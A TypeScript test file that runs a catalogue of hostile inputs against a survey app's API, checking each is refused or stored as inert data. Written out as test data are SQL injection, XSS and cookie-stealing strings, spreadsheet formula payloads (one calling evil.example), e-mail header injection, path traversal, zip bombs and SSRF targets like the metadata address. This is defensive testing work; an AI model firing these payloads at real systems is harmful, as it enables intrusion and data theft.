// The attack catalogue: hostile inputs, one table row each, run on every build. A row either expects a clear
// refusal (a 4xx problem+json, or the survey page's own 4xx page) with org A's data byte-for-byte the same
// afterwards, or — for text that is legitimate data (a name with <script> in it) — that it comes back as inert data:
// verbatim in JSON, escaped in HTML, never a formula in a spreadsheet, never a header in an e-mail.
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import MailComposer from 'nodemailer/lib/mail-composer/index.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApiKey } from '../src/modules/auth/index.js';
import { renderEmail } from '../src/modules/delivery/render.js';
import { signHook } from '../src/modules/imports/index.js';
import { buildScopeFixture, type ScopeFixture, snapshotOf } from './security-fixture.js';
import { bodyOf, buildOrg, expectJson, startWorld, submitForm, type World } from './support/world.js';

let world: World;
let fx: ScopeFixture;
let hookSecret: string;
let cookie: string;
let expiredUrl = '';

beforeAll(async () => {
  // One proxy in front (TRUST_PROXY=1): a row can speak from a chosen address with X-Forwarded-For.
  world = await startWorld({ env: { TRUST_PROXY: '1' } });
  fx = await buildScopeFixture(world);
  hookSecret = (await expectJson(fx.a.api('POST', '/api/v1/hooks/secret'), 200)).secret;
  cookie = await logIn(fx.a.email, fx.a.password);
}, 120_000);

afterAll(async () => {
  console.log(`### Attack catalogue: ${passed} of ${total()} hostile inputs refused or neutralised`);
  await world?.close();
});

async function logIn(email: string, password: string, headers: Record<string, string> = {}): Promise<string> {
  const r = await world.app.request('/api/v1/auth/login', {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: JSON.stringify({ email, password }),
  });
  expect(r.status).toBe(200);
  return (r.headers.get('set-cookie') ?? '').split(';')[0]!;
}

/** A raw request: any method, headers and body (string or bytes), as an attacker would send it. */
const raw = (
  path: string,
  init: { method?: string; headers?: Record<string, string>; body?: string | Uint8Array },
) =>
  Promise.resolve(
    world.app.request(path, { method: init.method ?? 'GET', headers: init.headers, body: init.body }),
  );
const asB = (method: string, path: string, body?: unknown) => fx.b.api(method, path, body);
const asA = (method: string, path: string, body?: unknown) => fx.a.api(method, path, body);
const json = () => ({ 'content-type': 'application/json', authorization: `Bearer ${fx.a.key}` });

function hook(
  body: string,
  o: { id?: string; at?: number; secret?: string; orgId?: string; signature?: string } = {},
) {
  const at = o.at ?? Math.floor(world.now.getTime() / 1000);
  const id = o.id ?? `msg_${Math.random().toString(36).slice(2)}`;
  return raw(`/api/v1/hooks/contacts/${o.orgId ?? fx.a.orgId}`, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      'webhook-id': id,
      'webhook-timestamp': String(at),
      'webhook-signature': o.signature ?? signHook(o.secret ?? hookSecret, id, at, body),
    },
    body,
  });
}
const visit = JSON.stringify({
  externalId: 'hook-1',
  occurredAt: '2026-11-20T09:00:00Z',
  customerExternalId: 'a-1',
  unitName: 'Zzsentinel Branch One',
});

/** An XLSX-looking ZIP with the given entries (name → content), built with jszip. */
async function zipOf(entries: Record<string, string | Uint8Array>): Promise<Uint8Array> {
  const zip = new JSZip();
  for (const [name, content] of Object.entries(entries)) zip.file(name, content, { createFolders: false });
  return zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE', compressionOptions: { level: 9 } });
}
const upload = (body: Uint8Array | string, query = 'dryRun=true&kind=customers') =>
  raw(`/api/v1/imports?${query}`, { method: 'POST', headers: { authorization: `Bearer ${fx.a.key}` }, body });

const exportTable = (format: 'csv' | 'xlsx', value: string) =>
  asA('POST', '/api/v1/exports/table', {
    title: 'Attack',
    format,
    columns: [{ key: 'name', label: 'Name' }],
    rows: [{ name: value }],
  });

interface Attack {
  category: string;
  name: string;
  /** 'refused': a 4xx and org A unchanged; 'neutralised': `check` proves the input is inert data. */
  kind: 'refused' | 'neutralised';
  run(): Promise<Response>;
  /** What the attacker did before (an earlier answer, a first delivery): outside the before/after comparison. */
  setup?(): Promise<void>;
  status?: number[];
  check?(response: Response): Promise<void>;
}

const refused = (
  category: string,
  name: string,
  run: () => Promise<Response>,
  status: number[],
  setup?: () => Promise<void>,
): Attack => ({ category, name, kind: 'refused', run, status, setup });
const neutralised = (
  category: string,
  name: string,
  run: () => Promise<Response>,
  check: (r: Response) => Promise<void>,
): Attack => ({ category, name, kind: 'neutralised', run, check });

const SQL = [
  "' OR '1'='1",
  '1; DROP TABLE customers;--',
  "' UNION SELECT password_hash FROM users--",
  "'); SELECT pg_sleep(5);--",
];
const XSS = '<script>alert("x")</script>';
const id = () => fx.ids;

/** A JSON body with `depth` nested arrays inside a field. */
const nested = (depth: number, open = '[', close = ']') =>
  `{"name":${open.repeat(depth)}${close.repeat(depth)}}`;

const attacks: Attack[] = [
  // Cross-tenant ids: another organisation's key on org A's things (test/security-scope.test.ts does every route).
  refused('cross-tenant', 'read a unit', () => asB('GET', `/api/v1/units/${id().branch1}`), [404]),
  refused(
    'cross-tenant',
    'rename a unit',
    () => asB('PATCH', `/api/v1/units/${id().branch1}`, { name: 'x' }),
    [404],
  ),
  refused('cross-tenant', 'read a customer', () => asB('GET', `/api/v1/customers/${id().customer}`), [404]),
  refused(
    'cross-tenant',
    'delete a customer',
    () => asB('DELETE', `/api/v1/customers/${id().customer}`),
    [404],
  ),
  refused(
    'cross-tenant',
    'close a case',
    () => asB('PATCH', `/api/v1/cases/${id().caseId}`, { status: 'resolved' }),
    [404],
  ),
  refused(
    'cross-tenant',
    'note on a case',
    () => asB('POST', `/api/v1/cases/${id().caseId}/notes`, { text: 'x' }),
    [404],
  ),
  refused('cross-tenant', 'delete a link', () => asB('DELETE', `/api/v1/links/${id().link}`), [404]),
  refused(
    'cross-tenant',
    'repoint a webhook',
    () => asB('PATCH', `/api/v1/webhooks/${id().webhook}`, { url: 'http://127.0.0.1/' }),
    [404],
  ),
  refused(
    'cross-tenant',
    'invite into a survey',
    () => asB('POST', `/api/v1/surveys/${id().survey}/invitations`, { contactIds: [id().contact] }),
    [404],
  ),
  refused(
    'cross-tenant',
    "a visit for another org's customer",
    () =>
      asB('POST', '/api/v1/contacts', {
        customerId: id().customer,
        unitId: id().branch1,
        occurredAt: '2026-11-19T10:00:00Z',
      }),
    [404, 422],
  ),
  refused('cross-tenant', 'revoke an API key', () => asB('DELETE', `/api/v1/api-keys/${id().apiKey}`), [404]),
  refused(
    'cross-tenant',
    'overwrite an import mapping',
    () =>
      asB('PUT', `/api/v1/import-mappings/${id().mapping}`, {
        kind: 'customers',
        name: 'x',
        mapping: { customerName: 'N' },
      }),
    [404],
  ),
  refused(
    'cross-tenant',
    'webhook into another org with its own secret',
    () => hook(visit, { orgId: fx.b.orgId }),
    [401],
  ),

  // SQL injection in paths, ids, query parameters and bodies (every query parameter: the sweep below).
  ...SQL.map((p) =>
    refused(
      'sql-injection',
      `path id ${p}`,
      () => asA('GET', `/api/v1/units/${encodeURIComponent(p)}`),
      [422, 404],
    ),
  ),
  refused(
    'sql-injection',
    'unitId filter',
    () => asA('GET', `/api/v1/cases?unitId=${encodeURIComponent(SQL[0]!)}`),
    [422],
  ),
  refused(
    'sql-injection',
    'groupBy',
    () => asA('GET', `/api/v1/surveys/${id().survey}/nps?groupBy=${encodeURIComponent(SQL[1]!)}`),
    [422],
  ),
  refused(
    'sql-injection',
    'cursor',
    () => asA('GET', `/api/v1/customers?cursor=${encodeURIComponent(SQL[2]!)}`),
    [400, 422],
  ),
  refused(
    'sql-injection',
    'date',
    () => asA('GET', `/api/v1/loop/metrics?from=${encodeURIComponent(SQL[3]!)}`),
    [422],
  ),
  refused(
    'sql-injection',
    'log-in e-mail',
    () =>
      raw('/api/v1/auth/login', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ email: SQL[0], password: SQL[0] }),
      }),
    [401],
  ),
  refused(
    'sql-injection',
    'e-mail field',
    () => asA('PATCH', `/api/v1/customers/${id().customer}`, { email: SQL[2] }),
    [422],
  ),
  neutralised(
    'sql-injection',
    'e-mail filter finds nobody',
    () => asA('GET', `/api/v1/customers?email=${encodeURIComponent(SQL[0]!)}`),
    async (r) => {
      expect(r.status).toBe(200);
      expect((await bodyOf(r)).items).toEqual([]);
    },
  ),
  neutralised(
    'sql-injection',
    'a unit named with SQL is stored as typed',
    () => asA('POST', '/api/v1/units', { name: SQL[1], kind: 'branch' }),
    async (r) => {
      const made = await expectJson(r, 201);
      expect((await expectJson(asA('GET', `/api/v1/units/${made.id}`), 200)).name).toBe(SQL[1]);
      expect((await expectJson(asA('GET', `/api/v1/customers/${id().customer}`), 200)).id).toBe(
        id().customer,
      );
    },
  ),

  // NoSQL-style operator objects where strings belong.
  refused(
    'nosql-injection',
    'log-in with $ne/$gt',
    () =>
      raw('/api/v1/auth/login', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ email: { $ne: null }, password: { $gt: '' } }),
      }),
    [422],
  ),
  refused(
    'nosql-injection',
    'name as $where',
    () => asA('POST', '/api/v1/units', { name: { $where: 'sleep(1000)' }, kind: 'branch' }),
    [422],
  ),
  refused(
    'nosql-injection',
    'status as $in',
    () => asA('PATCH', `/api/v1/cases/${id().caseId}`, { status: { $in: ['resolved'] } }),
    [422],
  ),
  neutralised(
    'nosql-injection',
    'email[$ne] in the query',
    () => asA('GET', '/api/v1/customers?email[$ne]=x'),
    async (r) => {
      // Read as a parameter named "email[$ne]", unknown and ignored: never an operator.
      expect(r.status).toBe(200);
      expect(JSON.stringify(await bodyOf(r))).not.toContain(fx.b.orgId);
    },
  ),
  // Stored XSS: names, reasons, unit names, notes, import files — data in JSON, escaped in HTML.
  neutralised(
    'stored-xss',
    'unit name',
    () => asA('POST', '/api/v1/units', { name: XSS, kind: 'branch' }),
    async (r) => {
      expect(r.headers.get('content-type')).toMatch(/json/);
      const made = await expectJson(r, 201);
      expect((await expectJson(asA('GET', `/api/v1/units/${made.id}`), 200)).name).toBe(XSS);
    },
  ),
  neutralised(
    'stored-xss',
    'customer name',
    () => asA('POST', '/api/v1/customers', { name: '<img src=x onerror=alert(1)>' }),
    async (r) => {
      const made = await expectJson(r, 201);
      expect((await expectJson(asA('GET', `/api/v1/customers/${made.id}`), 200)).name).toBe(
        '<img src=x onerror=alert(1)>',
      );
    },
  ),
  neutralised(
    'stored-xss',
    'employee name',
    () => asA('POST', '/api/v1/employees', { name: '"><svg onload=alert(1)>', unitId: id().branch1 }),
    async (r) => {
      expect((await expectJson(r, 201)).name).toBe('"><svg onload=alert(1)>');
    },
  ),
  neutralised(
    'stored-xss',
    'case note',
    () => asA('POST', `/api/v1/cases/${id().caseId}/notes`, { text: XSS }),
    async (r) => {
      expect(r.status).toBe(201);
      expect(JSON.stringify(await expectJson(asA('GET', `/api/v1/cases/${id().caseId}`), 200))).toContain(
        JSON.stringify(XSS).slice(1, -1),
      );
    },
  ),
  neutralised(
    'stored-xss',
    'reason of an answer, then the API and the page',
    async () => {
      const c = await expectJson(asA('POST', '/api/v1/customers', { name: 'X' }), 201);
      const v = await expectJson(
        asA('POST', '/api/v1/contacts', {
          customerId: c.id,
          unitId: id().branch1,
          occurredAt: '2026-11-19T10:00:00Z',
        }),
        201,
      );
      const inv = await expectJson(
        asA('POST', `/api/v1/surveys/${id().survey}/invitations`, { contactIds: [v.id], channel: 'link' }),
        201,
      );
      await submitForm(world, inv.items[0].url, { score: '3', reason: XSS });
      return raw(new URL(inv.items[0].url).pathname, {});
    },
    async (page) => {
      const html = await page.text();
      expect(html).not.toContain('<script>alert');
      expect(html).toContain('&lt;script&gt;');
      const answers = await expectJson(asA('GET', `/api/v1/surveys/${id().survey}/responses?limit=100`), 200);
      expect(answers.items.map((a: { reason: string | null }) => a.reason)).toContain(XSS);
    },
  ),
  neutralised(
    'stored-xss',
    'organisation name on the survey page',
    async () => {
      const evil = await buildOrg(world, '<script>alert(document.cookie)</script>');
      const s = await expectJson(
        evil.api('POST', '/api/v1/surveys', { name: 's', audience: 'customer', kind: 'relationship' }),
        201,
      );
      const c = await expectJson(evil.api('POST', '/api/v1/customers', { name: 'X' }), 201);
      const u = await expectJson(evil.api('POST', '/api/v1/units', { name: 'u', kind: 'branch' }), 201);
      const v = await expectJson(
        evil.api('POST', '/api/v1/contacts', {
          customerId: c.id,
          unitId: u.id,
          occurredAt: '2026-11-19T10:00:00Z',
        }),
        201,
      );
      const inv = await expectJson(
        evil.api('POST', `/api/v1/surveys/${s.id}/invitations`, { contactIds: [v.id], channel: 'link' }),
        201,
      );
      return raw(new URL(inv.items[0].url).pathname, {});
    },
    async (page) => {
      expect(page.status).toBe(200);
      const html = await page.text();
      expect(html).not.toContain('<script>alert(document.cookie)');
      expect(page.headers.get('content-security-policy')).not.toContain('unsafe-inline');
    },
  ),
  neutralised(
    'stored-xss',
    'names in the invitation e-mail',
    async () =>
      new Response(
        JSON.stringify(
          renderEmail({
            locale: 'en',
            kind: 'invitation',
            orgName: '<b>Org</b>',
            name: '<img src=x onerror=alert(1)>',
            question: XSS,
            surveyUrl: 'https://s.example/s/t',
            unsubscribeUrl: 'https://s.example/u/t',
          }),
        ),
      ),
    async (r) => {
      const mail = await bodyOf(r);
      expect(mail.html).not.toMatch(/<img src=x|<script>|<b>Org/);
      expect(mail.html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    },
  ),
  neutralised(
    'stored-xss',
    'names in an import file come back as data',
    () => upload(`Name;Phone\n${XSS};+79160001122\n<iframe src=javascript:alert(1)>;+79160001123\n`),
    async (r) => {
      const report = await expectJson(r, 200);
      const values = JSON.stringify(report.preview);
      expect(values).toContain(JSON.stringify(XSS).slice(1, -1));
      expect(r.headers.get('content-type')).toMatch(/json/);
    },
  ),

  // CSV/XLSX formula injection in exports (OWASP: prefix = + - @ tab CR with a quote).
  ...[
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
  ].map((v) =>
    neutralised(
      'formula-injection',
      `CSV cell ${JSON.stringify(v).slice(0, 24)}`,
      () => exportTable('csv', v),
      async (r) => {
        expect(r.status).toBe(200);
        const text = (await r.text()).replace(/^\uFEFF/, '');
        const cell = text.split('\n')[1]!.replace(/^"/, '');
        expect(cell[0]).toBe("'");
      },
    ),
  ),
  ...['=1+1', '@SUM(A1:A2)'].map((v) =>
    neutralised(
      'formula-injection',
      `XLSX cell ${v}`,
      () => exportTable('xlsx', v),
      async (r) => {
        expect(r.status).toBe(200);
        const book = new ExcelJS.Workbook();
        await book.xlsx.load(Buffer.from(await r.arrayBuffer()) as unknown as ArrayBuffer);
        const values = book.worksheets.flatMap((ws) =>
          ws
            .getSheetValues()
            .flat()
            .filter((x) => x !== undefined),
        );
        expect(values.some((x) => typeof x === 'object' && x !== null && 'formula' in x)).toBe(false);
      },
    ),
  ),

  // Header injection through e-mail fields: CR/LF in names and subjects never start a header.
  neutralised(
    'header-injection',
    'CR/LF in the recipient name',
    async () =>
      new Response(
        JSON.stringify(
          renderEmail({
            locale: 'ru',
            kind: 'invitation',
            orgName: 'Org',
            name: 'Anna\r\nBcc: victim@evil.example',
            question: '',
            surveyUrl: 'https://s.example/s/t',
            unsubscribeUrl: 'https://s.example/u/t',
          }),
        ),
      ),
    async (r) => {
      const mail = await bodyOf(r);
      expect(mail.text).not.toMatch(/\r\nBcc:/);
    },
  ),
  neutralised(
    'header-injection',
    'CR/LF in the organisation name (subject)',
    async () =>
      new Response(
        JSON.stringify(
          renderEmail({
            locale: 'en',
            kind: 'reminder',
            orgName: 'Org\r\nBcc: victim@evil.example\r\n\r\n<html>',
            name: null,
            question: '',
            surveyUrl: 'https://s.example/s/t',
            unsubscribeUrl: 'https://s.example/u/t',
          }),
        ),
      ),
    async (r) => {
      expect((await bodyOf(r)).subject).not.toMatch(/[\r\n]/);
    },
  ),
  neutralised(
    'header-injection',
    'a composed message with a CR/LF name has one To and no Bcc',
    async () => {
      const message = await new MailComposer({
        from: 'Sarafan <noreply@example.com>',
        to: { name: 'Anna\r\nBcc: victim@evil.example', address: 'anna@example.com' },
        subject: renderEmail({
          locale: 'en',
          kind: 'invitation',
          orgName: 'Org\nX-Evil: 1',
          name: null,
          question: '',
          surveyUrl: 'u',
          unsubscribeUrl: 'u',
        }).subject,
        text: 'x',
      })
        .compile()
        .build();
      return new Response(message);
    },
    async (r) => {
      const headers = (await r.text()).split('\r\n\r\n')[0]!;
      expect(headers).not.toMatch(/^Bcc:/im);
      expect(headers).not.toMatch(/^X-Evil:/im);
    },
  ),

  // Path traversal and zip bombs in imports.
  neutralised(
    'import-file',
    'a multipart file name that climbs out of the data folder',
    () =>
      raw('/api/v1/imports?dryRun=true&kind=customers', {
        method: 'POST',
        headers: { authorization: `Bearer ${fx.a.key}`, 'content-type': 'multipart/form-data; boundary=XX' },
        body: '--XX\r\nContent-Disposition: form-data; name="file"; filename="../../../../../tmp/pwned-by-sarafan.csv"\r\nContent-Type: text/csv\r\n\r\nName;Phone\nA;+79160000000\n\r\n--XX--\r\n',
      }),
    async (r) => {
      expect(r.status).toBeLessThan(500);
      expect(existsSync('/tmp/pwned-by-sarafan.csv')).toBe(false);
      expect(existsSync(join(world.runtime.deps.dataDir, '..', 'pwned-by-sarafan.csv'))).toBe(false);
    },
  ),
  refused(
    'import-file',
    'an XLSX whose entry climbs out (../../evil.xml)',
    async () => upload(await zipOf({ '[Content_Types].xml': '<Types/>', '../../evil.xml': 'x' })),
    [415],
  ),
  refused(
    'import-file',
    'an XLSX whose entry is absolute (/etc/cron.d/x)',
    async () => upload(await zipOf({ '[Content_Types].xml': '<Types/>', '/etc/cron.d/x': 'x' })),
    [415],
  ),
  refused(
    'import-file',
    'a zip bomb (64 MB of one byte, 1000×)',
    async () =>
      upload(
        await zipOf({
          '[Content_Types].xml': '<Types/>',
          'xl/worksheets/sheet1.xml': new Uint8Array(64 * 1024 ** 2),
        }),
      ),
    [415],
  ),
  refused(
    'import-file',
    'an archive with a broken directory',
    () => upload(new Uint8Array([0x50, 0x4b, 0x03, 0x04, ...new Array(300).fill(7)])),
    [415],
  ),

  // Oversized and deeply nested JSON.
  refused(
    'json',
    'a 2 MB body',
    () =>
      raw('/api/v1/units', {
        method: 'POST',
        headers: json(),
        body: JSON.stringify({ name: 'x'.repeat(2 * 1024 ** 2), kind: 'branch' }),
      }),
    [413],
  ),
  refused(
    'json',
    '10,000 nested arrays',
    () => raw('/api/v1/units', { method: 'POST', headers: json(), body: nested(10_000) }),
    [400],
  ),
  refused(
    'json',
    '100,000 nested objects',
    () => raw('/api/v1/units', { method: 'POST', headers: json(), body: nested(100_000, '{"a":', '}') }),
    [400],
  ),
  refused(
    'json',
    'truncated JSON',
    () => raw('/api/v1/units', { method: 'POST', headers: json(), body: '{"name":"x","kind":' }),
    [400],
  ),
  refused(
    'json',
    'a JSON answer on the survey page nested 1,000 deep',
    () =>
      raw(new URL(id().invitationUrl).pathname, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: `{"score":$'['.repeat(1000)$']'.repeat(1000)}`,
      }),
    [400],
  ),

  // Malformed Unicode.
  refused(
    'unicode',
    'lone high surrogate in a unit name',
    () =>
      raw('/api/v1/units', { method: 'POST', headers: json(), body: '{"name":"A\\ud800B","kind":"branch"}' }),
    [422],
  ),
  refused(
    'unicode',
    'lone low surrogate in a customer name',
    () => raw('/api/v1/customers', { method: 'POST', headers: json(), body: '{"name":"\\udfffX"}' }),
    [422],
  ),
  refused(
    'unicode',
    'NUL character in a name',
    () => raw('/api/v1/customers', { method: 'POST', headers: json(), body: '{"name":"Ann\\u0000a"}' }),
    [422],
  ),
  refused(
    'unicode',
    'overlong UTF-8 (C0 AF for "/")',
    () =>
      raw('/api/v1/units', {
        method: 'POST',
        headers: json(),
        body: new Uint8Array([
          ...Buffer.from('{"name":"a'),
          0xc0,
          0xaf,
          ...Buffer.from('","kind":"branch"}'),
        ]),
      }),
    [400],
  ),
  refused(
    'unicode',
    'truncated UTF-8 sequence',
    () =>
      raw('/api/v1/units', {
        method: 'POST',
        headers: json(),
        body: new Uint8Array([
          ...Buffer.from('{"name":"a'),
          0xe2,
          0x82,
          ...Buffer.from('","kind":"branch"}'),
        ]),
      }),
    [400],
  ),
  refused(
    'unicode',
    'lone surrogate in a JSON survey answer',
    () =>
      raw(new URL(id().invitationUrl).pathname, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: '{"score":9,"reason":"\\ud83d"}',
      }),
    [422],
  ),
  refused(
    'unicode',
    'lone surrogate as an object key',
    () =>
      raw('/api/v1/units', {
        method: 'POST',
        headers: json(),
        body: '{"\\ud800":1,"name":"x","kind":"branch"}',
      }),
    [422],
  ),

  // Inbound webhook signatures: forged, replayed, stale, from the future, tampered, missing.
  refused(
    'webhook-signature',
    'forged with a made-up secret',
    () => hook(visit, { secret: `whsec_${Buffer.alloc(32, 9).toString('base64')}` }),
    [401],
  ),
  refused(
    'webhook-signature',
    'replayed (same webhook-id) inside the window',
    () => hook(visit, { id: 'msg_replay' }),
    [409],
    async () => {
      await expectJson(hook(visit, { id: 'msg_replay' }), 200);
    },
  ),
  refused(
    'webhook-signature',
    'stale timestamp (6 minutes old)',
    () => hook(visit, { at: Math.floor(world.now.getTime() / 1000) - 360 }),
    [401],
  ),
  refused(
    'webhook-signature',
    'timestamp 6 minutes ahead',
    () => hook(visit, { at: Math.floor(world.now.getTime() / 1000) + 360 }),
    [401],
  ),
  refused(
    'webhook-signature',
    'body changed after signing',
    () => hook(visit, { signature: signHook(hookSecret, 'm', Math.floor(world.now.getTime() / 1000), '{}') }),
    [401],
  ),
  refused(
    'webhook-signature',
    'garbage signature',
    () => hook(visit, { signature: 'v1,@@@not-base64@@@' }),
    [401],
  ),
  refused(
    'webhook-signature',
    'no signature headers',
    () =>
      raw(`/api/v1/hooks/contacts/${fx.a.orgId}`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: visit,
      }),
    [401],
  ),
  refused(
    'webhook-signature',
    'an organisation id that is not a UUID',
    () => hook(visit, { orgId: "1' OR '1'='1" }),
    [401, 404],
  ),

  // Survey tokens: expired, reused, guessed, malformed.
  refused('survey-token', 'a guessed token', () => raw('/s/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA', {}), [404]),
  refused(
    'survey-token',
    'a guessed token, POSTed',
    () =>
      raw('/s/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA', {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: 'score=10',
      }),
    [404],
  ),
  refused('survey-token', 'a path-traversal token', () => raw('/s/..%2F..%2Fetc%2Fpasswd', {}), [404]),
  refused('survey-token', 'a 5,000-character token', () => raw(`/s/${'A'.repeat(5000)}`, {}), [404, 414]),
  refused(
    'survey-token',
    'a reused token after the 24-hour change window',
    () => submitForm(world, id().invitationUrl, { score: '10', reason: 'stuffed' }),
    [410],
    async () => {
      await world.runtime.database.db.execute(
        sql`update responses set answered_at = answered_at - interval '2 days' where org_id = ${fx.a.orgId}`,
      );
    },
  ),
  refused(
    'survey-token',
    'an expired token',
    () => submitForm(world, expiredUrl, { score: '10' }),
    [410],
    async () => {
      const c = await expectJson(asA('POST', '/api/v1/customers', { name: 'Late' }), 201);
      const v = await expectJson(
        asA('POST', '/api/v1/contacts', {
          customerId: c.id,
          unitId: id().branch1,
          occurredAt: '2026-11-19T10:00:00Z',
        }),
        201,
      );
      const inv = await expectJson(
        asA('POST', `/api/v1/surveys/${id().survey}/invitations`, { contactIds: [v.id], channel: 'link' }),
        201,
      );
      await world.runtime.database.db.execute(
        sql`update invitations set expires_at = ${new Date(world.now.getTime() - 86_400_000).toISOString()}::timestamptz where org_id = ${fx.a.orgId} and id = ${inv.items[0].id}`,
      );
      expiredUrl = inv.items[0].url;
    },
  ),
  refused(
    'survey-token',
    'a flood of guesses from one address is blocked',
    async () => {
      for (let n = 0; n < 20; n++)
        await raw(`/s/guess${n}xxxxxxxxxxxxxxxxxxxxxxxxxxx`, {
          headers: { 'x-forwarded-for': '198.51.100.7' },
        });
      return raw(new URL(id().invitationUrl).pathname, { headers: { 'x-forwarded-for': '198.51.100.7' } });
    },
    [429],
  ),

  // Authentication and session attacks.
  refused(
    'auth',
    'password guessing locks the account (the 6th try, even with the right password)',
    async () => {
      const victim = await buildOrg(world, 'Victim');
      for (let n = 0; n < 5; n++)
        await raw('/api/v1/auth/login', {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ email: victim.email, password: `guess-${n}` }),
        });
      return raw('/api/v1/auth/login', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ email: victim.email, password: victim.password }),
      });
    },
    [429],
  ),
  refused(
    'auth',
    'a cross-site form POST with the session cookie (CSRF)',
    () =>
      raw('/api/v1/units', {
        method: 'POST',
        headers: {
          cookie,
          'content-type': 'application/json',
          'sec-fetch-site': 'cross-site',
          origin: 'https://evil.example',
        },
        body: JSON.stringify({ name: 'csrf', kind: 'branch' }),
      }),
    [403],
  ),
  refused(
    'auth',
    'a CSRF from a browser without Fetch Metadata (Origin only)',
    () =>
      raw('/api/v1/units', {
        method: 'POST',
        headers: {
          cookie,
          'content-type': 'application/json',
          origin: 'https://evil.example',
          host: 'sarafan.test',
        },
        body: JSON.stringify({ name: 'csrf', kind: 'branch' }),
      }),
    [403],
  ),
  refused(
    'auth',
    'login CSRF from another site',
    () =>
      raw('/api/v1/auth/login', {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'sec-fetch-site': 'cross-site' },
        body: JSON.stringify({ email: fx.a.email, password: fx.a.password }),
      }),
    [403],
  ),
  refused(
    'auth',
    'a forged session cookie',
    () =>
      raw('/api/v1/units', {
        headers: { cookie: 'sarafan_session=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' },
      }),
    [401],
  ),
  refused(
    'auth',
    'a session cookie after log-out',
    async () => {
      const c = await logIn(fx.a.email, fx.a.password);
      await raw('/api/v1/auth/logout', { method: 'POST', headers: { cookie: c } });
      return raw('/api/v1/units', { headers: { cookie: c } });
    },
    [401],
  ),
  refused(
    'auth',
    'an expired API key',
    async () => {
      const ctx = {
        ...world.contextFor(fx.a.orgId),
        actor: {
          kind: 'user' as const,
          userId: (await expectJson(asA('GET', '/api/v1/auth/me'), 200)).user.id,
          role: 'owner' as const,
          unitIds: null,
        },
      };
      const { key } = await createApiKey(ctx, {
        userId: ctx.actor.userId,
        name: 'old',
        expiresAt: new Date(world.now.getTime() - 1000),
      });
      return raw('/api/v1/units', { headers: { authorization: `Bearer ${key}` } });
    },
    [401],
  ),
  refused(
    'auth',
    'a read-only key that writes',
    async () => {
      const made = await expectJson(asA('POST', '/api/v1/api-keys', { name: 'ro', scopes: ['read'] }), 201);
      return raw('/api/v1/units', {
        method: 'POST',
        headers: { authorization: `Bearer ${made.key}`, 'content-type': 'application/json' },
        body: JSON.stringify({ name: 'x', kind: 'branch' }),
      });
    },
    [403],
  ),
  refused(
    'auth',
    'a key scoped to cases reading customers',
    async () => {
      const made = await expectJson(
        asA('POST', '/api/v1/api-keys', { name: 'cases', scopes: ['read:cases'] }),
        201,
      );
      return raw('/api/v1/customers', { headers: { authorization: `Bearer ${made.key}` } });
    },
    [403],
  ),
  refused(
    'auth',
    'a write key minting an admin key',
    async () => {
      const made = await expectJson(
        asA('POST', '/api/v1/api-keys', { name: 'w', scopes: ['write', 'admin:api-keys'] }),
        201,
      );
      return raw('/api/v1/api-keys', {
        method: 'POST',
        headers: { authorization: `Bearer ${made.key}`, 'content-type': 'application/json' },
        body: JSON.stringify({ name: 'escalate', scopes: ['admin'] }),
      });
    },
    [403],
  ),
  refused(
    'auth',
    'an API key changing its user’s two-step verification',
    () => asA('POST', '/api/v1/auth/totp/setup'),
    [403],
  ),
  refused(
    'auth',
    'a key that is not ours at all',
    () => raw('/api/v1/units', { headers: { authorization: `Bearer srf_${'A'.repeat(43)}` } }),
    [401],
  ),

  // Outgoing webhooks to private, loopback and link-local targets (SSRF), without an admin's allowPrivate.
  ...[
    'http://127.0.0.1:8080/',
    'http://169.254.169.254/latest/meta-data/',
    'http://[::1]/',
    'http://localhost/hook',
    'http://10.0.0.5/hook',
    'http://0.0.0.0/',
    'http://2130706433/',
    'http://[::ffff:127.0.0.1]/',
    'http://[fe80::1]/',
    'file:///etc/passwd',
    'gopher://127.0.0.1:25/',
  ].map((url) => refused('ssrf', url, () => asA('POST', '/api/v1/webhooks', { url, events: [] }), [422])),
];

let passed = 0;
const total = () => attacks.length + sweepCount;
let sweepCount = 0;

describe('the attack catalogue', () => {
  it.each(attacks.map((a) => [`${a.category}: ${a.name}`, a] as const))(
    '%s',
    async (_name, attack) => {
      await attack.setup?.();
      const before = attack.kind === 'refused' ? await snapshotOf(world, fx.a.orgId) : null;
      const response = await attack.run();
      if (attack.kind === 'refused') {
        const body = await response.text();
        expect(attack.status, body.slice(0, 300)).toContain(response.status);
        const type = response.headers.get('content-type') ?? '';
        // The API answers problem+json; the survey pages answer a readable page with the same status.
        expect(type).toMatch(/application\/problem\+json|text\/html/);
        if (type.includes('problem'))
          expect(JSON.parse(body)).toMatchObject({ status: response.status, title: expect.any(String) });
        expect(await snapshotOf(world, fx.a.orgId)).toEqual(before);
      } else {
        await attack.check!(response);
      }
      passed++;
    },
    60_000,
  );

  it('SQL injection in every query parameter of every GET route of the OpenAPI document', async () => {
    type Op = { parameters?: { in: string; name: string }[] };
    const doc = (await bodyOf(await asA('GET', '/api/openapi.json'))) as {
      paths: Record<string, { get?: Op }>;
    };
    const gets = Object.entries(doc.paths)
      .filter(([, ops]) => ops.get)
